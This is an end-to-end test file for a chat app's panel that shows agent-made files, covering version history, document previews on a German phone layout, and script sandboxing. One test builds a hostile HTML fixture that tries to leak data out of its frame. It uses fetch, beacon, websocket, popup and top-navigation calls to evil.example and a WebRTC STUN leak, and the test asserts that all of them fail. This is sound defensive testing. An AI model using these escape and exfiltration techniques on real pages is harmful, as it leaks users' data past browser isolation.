/** Tests in Chromium the panel beside the chat that shows what the agent has made. */

import { createSocket } from 'node:dgram'
import { networkInterfaces } from 'node:os'
import { PDFDocument, StandardFonts } from 'pdf-lib'
import type { Page } from 'playwright-core'
import writeXlsx from 'write-excel-file/node'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { itInTurn } from '#test/support/long.ts'
import { type Browser, chromium, launchBrowser } from './support/chromium.ts'
import { type Client, newTenant } from './support/client.ts'
import { owner } from './support/here.ts'
import { audit, origin, signIn } from './support/page.ts'

const write = (path: string, content: string) => `call write_file ${JSON.stringify({ path, content })}`

/** Tries each way out of a frame, and then says that it is done. */
const hostilePage = (host: string, port: number) => `<!doctype html><title>x</title><p id="o">waits</p>
<button onclick="location = 'https://evil.example/away?secret'">Away</button>
<iframe srcdoc="<script>parent.postMessage(1)</script>"></iframe><script>
const leak = "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}:${port}' }] }); p.createDataChannel('x'); p.setLocalDescription()"
const load = (tag, fields) => new Promise((yes, no) => document.body.append(Object.assign(document.createElement(tag), { onload: yes, onerror: no, ...fields })))
const run = (code) => document.head.append(Object.assign(document.createElement('script'), { textContent: code }))
const tries = {
  fetch: () => fetch('https://evil.example/fetch'),
  own: () => fetch('/api/me'),
  picture: () => load('img', { src: 'https://evil.example/i.png' }),
  script: () => load('script', { src: 'https://evil.example/s.js' }),
  style: () => load('link', { rel: 'stylesheet', href: 'https://evil.example/s.css' }),
  prefetch: () => load('link', { rel: 'prefetch', href: 'https://evil.example/prefetch' }),
  socket: () => new Promise((yes, no) => Object.assign(new WebSocket('wss://evil.example'), { onopen: yes, onerror: no })),
  storage: () => localStorage.setItem('a', 'b'),
  cookie: () => document.cookie,
  parent: () => parent.document.title,
  popup: () => { if (!window.open('https://evil.example/popup')) throw 1 },
  worker: () => new Promise((yes, no) => Object.assign(new Worker('data:text/javascript,postMessage(1)'), { onmessage: yes, onerror: no })),
  eval: () => eval('1'),
  top: () => { top.location = 'https://evil.example/top' },
  peer: () => new RTCPeerConnection(),
  srcdoc: () => load('iframe', { srcdoc: '<script>' + leak + '<\\/script>' }),
  blank: () => { const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.RTCPeerConnection.name },
  address: () => { const f = document.createElement('iframe'); f.src = 'javascript:' + leak; document.body.append(f); throw 1 },
  html: () => { const d = document.createElement('div'); d.innerHTML = '<iframe></iframe>'; if (!d.querySelector('iframe')) throw 1 },
  code: () => { run(leak); throw 1 },
}
;(async () => {
  navigator.sendBeacon('https://evil.example/beacon')
  const done = []
  for (const [name, go] of Object.entries(tries)) try { await Promise.race([go(), new Promise((yes, no) => setTimeout(no, 300))]); done.push(name) } catch {}
  o.textContent = 'left by: ' + done.join()
})()
</script>`

describe.skipIf(chromium === undefined)('what the agent has made', () => {
  let browser: Browser
  let client: Client
  const errors: string[] = []
  const requests: string[] = []

  const open = async (id: string, { width = 1280, locale = 'en-US' } = {}) => {
    const colorScheme = width < 500 ? 'dark' : 'light'
    const look = { locale, viewport: { width, height: 800 }, colorScheme } as const
    const page = await signIn(browser, client, { ...look, requests, at: `chat/${id}` })
    page.on('pageerror', (error) => errors.push(error.message))
    await page.locator('.block.text').first().waitFor()
    return page
  }
  const openFile = (page: Page, name: string) =>
    page.locator('.block.text').last().locator('.file-name', { hasText: name }).click()

  beforeAll(async () => {
    browser = await launchBrowser()
    client = (await newTenant(owner)).client
  })
  afterAll(async () => browser?.close())
  beforeEach(() => void (errors.length = 0))

  itInTurn('has versions, their changes, and is changed by the next message', async () => {
    const id = await client.newSession()
    await client.chat(id, `[[${write('list.html', '<h1>One</h1>')} then say Made]]`)
    await client.chat(id, `[[${write('list.html', '<h1>Two</h1>')} then say See [the list](list.html).]]`)
    const page = await open(id)
    await openFile(page, 'the list')
    const panel = page.getByRole('complementary', { name: 'list.html' })
    const shown = page.frameLocator('.artifact iframe').getByRole('heading')
    await expect.poll(() => shown.innerText()).toBe('Two')
    expect(await page.evaluate('document.activeElement.textContent')).toBe('list.html')
    await panel.getByRole('button', { name: 'Older version' }).click()
    await expect.poll(() => shown.innerText()).toBe('One')
    await panel.getByText('1/2').waitFor()
    await panel.getByRole('button', { name: 'Newer version' }).click()
    await panel.getByRole('button', { name: 'Changes' }).click()
    await expect.poll(() => panel.locator('.diff .added').innerText()).toContain('Two')
    await panel.getByRole('button', { name: 'Source' }).click()
    await panel.locator('code', { hasText: '<h1>Two</h1>' }).waitFor()
    await panel.getByRole('button', { name: 'Preview' }).click()
    await audit(page)
    await panel.getByRole('button', { name: 'Change this' }).click()
    const field = page.getByRole('textbox', { name: 'Message' })
    await expect.poll(() => field.inputValue()).toBe('@file:list.html ')
    await field.fill(`[[${write('list.html', '<h1>Three</h1>')} then say Done]]`)
    await field.press('Enter')
    await expect.poll(() => shown.innerText()).toBe('Three')
    await panel.getByText('3/3').waitFor()
    await panel.getByRole('button', { name: 'Full screen' }).click()
    expect((await panel.boundingBox())?.width).toBe(1280)
    await page.keyboard.press('Escape')
    await expect.poll(() => panel.count()).toBe(0)
    expect(errors).toEqual([])
  })

  it('runs the scripts of a page after a click, and nothing of it leaves', async () => {
    const packets: string[] = []
    const udp = createSocket('udp4').on('message', (bytes) => packets.push(bytes.toString('hex')))
    await new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', () => resolve()))
    const host = Object.values(networkInterfaces())
      .flat()
      .find((one) => one?.family === 'IPv4' && !one.internal)?.address
    const id = await client.newSession()
    await client.send('PUT', `/api/sessions/${id}/files/evil.html`, {
      raw: hostilePage(host ?? '127.0.0.1', udp.address().port),
    })
    await client.chat(id, '[[say See [it](evil.html).]]')
    const page = await open(id)
    await openFile(page, 'it')
    const said = page.frameLocator('.artifact iframe').locator('#o')
    await expect.poll(() => said.innerText()).toBe('waits')
    requests.length = 0
    await page.getByText('This page has a script. It runs apart, without a network.').waitFor()
    await page.getByRole('button', { name: 'Run it' }).click()
    await expect.poll(() => said.innerText()).toBe('left by:')
    await page.frameLocator('.artifact iframe').getByRole('button', { name: 'Away' }).click()
    // Candidates of WebRTC take a moment.
    await page.waitForTimeout(1_500)
    expect(new URL(page.url()).origin).toBe(origin)
    const left = page
      .frames()
      .map((frame) => frame.url())
      .filter((url) => url.includes('evil.example'))
    expect([left, packets]).toEqual([[], []])
    expect(requests.filter((url) => url.startsWith(`${origin}/api/me`))).toEqual([])
    expect(page.context().pages()).toHaveLength(1)
    udp.close()
  })

  itInTurn('is a table, a text, pages or a list on a German phone in the dark', async () => {
    const id = await client.newSession()
    const put = (path: string, raw: BodyInit) => client.send('PUT', `/api/sessions/${id}/files/${path}`, { raw })
    const pdf = await PDFDocument.create()
    const font = await pdf.embedFont(StandardFonts.Helvetica)
    for (const text of ['Seite eins', 'Seite zwei'])
      pdf.addPage([400, 300]).drawText(text, { x: 40, y: 200, size: 40, font })
    const rows = [
      [{ value: 'Ort' }, { value: 'Leute' }],
      [{ value: 'Aachen' }, { value: 250_000 }],
    ]
    await put('a.pdf', Buffer.from(await pdf.save()))
    await put('a.xlsx', Buffer.from(await writeXlsx(rows).toBuffer()))
    await put('a.csv', `Ort;Leute\nKöln;1100000\nAachen;250000\n${'x'.repeat(200)};${'y'.repeat(200)}`)
    await put('a.md', '# Über\n\n- eins\n')
    await client.chat(id, '[[say [die Seiten](a.pdf) [das Blatt](a.xlsx) [die Orte](a.csv) [der Text](a.md)]]')
    const page = await open(id, { width: 360, locale: 'de-DE' })
    const panel = page.locator('.artifact')
    const view = async (name: string, wanted: string) => {
      await openFile(page, name)
      await panel.locator(wanted).first().waitFor()
      for (const button of await panel.locator('header button, .artifact-tools :is(button, a)').all()) {
        const box = (await button.isVisible()) ? await button.boundingBox() : { x: 0, width: 0 }
        expect((box?.x ?? 999) + (box?.width ?? 999)).toBeLessThanOrEqual(360)
      }
      expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(360)
      await audit(page)
    }
    const close = () => panel.getByRole('button', { name: 'Schließen' }).click()
    await view('die Seiten', '.pdf canvas')
    const canvas = panel.locator('canvas').first()
    await expect.poll(() => canvas.getAttribute('aria-label')).toBe('Seite 1 von 2. Seite eins')
    const ink = `(canvas) => canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data.filter((value, at) => at % 4 === 0 && value < 90).length`
    expect(await page.evaluate(`(${ink})(document.querySelector('.pdf canvas'))`)).toBeGreaterThan(500)
    await close()
    await view('das Blatt', 'td')
    expect(await panel.locator('td').allInnerTexts()).toEqual(['Aachen', '250000'])
    // A column of numbers has its name above them.
    const heads = `[...document.querySelectorAll('.artifact th button')].map((one) => getComputedStyle(one).textAlign)`
    expect(await page.evaluate(heads)).toEqual(['start', 'end'])
    await close()
    await view('die Orte', 'td')
    await panel.getByRole('button', { name: 'Ort' }).click()
    expect(await panel.locator('td').first().innerText()).toBe('Aachen')
    expect(await panel.locator('th').first().getAttribute('aria-sort')).toBe('ascending')
    await close()
    await view('der Text', '.markdown li')
    await page.keyboard.press('Escape')
    await expect.poll(() => page.evaluate('document.activeElement.textContent')).toContain('der Text')
    // A file that covers the chat is not there after another screen.
    await view('der Text', '.markdown li')
    await page.evaluate("location.hash = '#/inbox'")
    await page.locator('.screen').waitFor()
    await page.evaluate(`location.hash = '#/chat/${id}'`)
    await page.locator('.block.text').last().waitFor()
    expect(await panel.count()).toBe(0)
    expect(errors).toEqual([])
  })
})
